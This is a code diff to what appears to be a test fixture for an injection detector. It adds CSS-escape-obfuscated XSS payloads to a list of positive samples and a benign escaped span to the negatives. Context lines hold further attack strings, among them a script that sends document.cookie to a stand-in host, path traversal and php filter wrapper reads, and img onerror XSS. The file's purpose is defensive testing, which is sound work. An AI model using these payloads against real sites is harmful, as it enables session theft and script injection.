@@ -114,6 +114,12 @@ POSITIVES = [
     (path_traversal, "php filter wrapper", "php://filter/convert.base64-encode/resource=index.php"),
     (path_traversal, "windows absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
     # xss
+    (
+        xss,
+        "script url behind css escapes",
+        '<b style="background:\\75rl(\\6a avascript:alert(7))">',
+    ),
+    (xss, "markup behind doubled css escapes", "<i style='x:\\\\3csvg\\\\20onload\\\\3d go()'>"),
     (xss, "tag with the high bit set (US-ASCII on IE)", "\xbciframe src=javascript:x\xbe"),
     (xss, "script tag", "<script>fetch('//e.test/'+document.cookie)</script>"),
     (xss, "img onerror", "<img src=x onerror=alert(1)>"),
@@ -231,6 +237,7 @@ NEGATIVES = [
     "Salmon spawn('river') season; check_call('mom') later",
     "Write to ana@example.com (work) or @bob@mastodon.social (home)",
     "Add \xbc cup of sugar, stir \xbe of the way, \xbcthen\xbe bake",
+    '<span style="font-family:\\5FAE\\8F6F\\96C5\\9ED1; quotes: \\201C">Hi</span>',
     "Press '*' then '#', or type 'and' / 'or' to combine terms",
     "Guns N' Roses - 'Appetite' (1987), Smith's - Jones' store",
     "It's 3' x 5' and costs 2' / 3' of the old one",
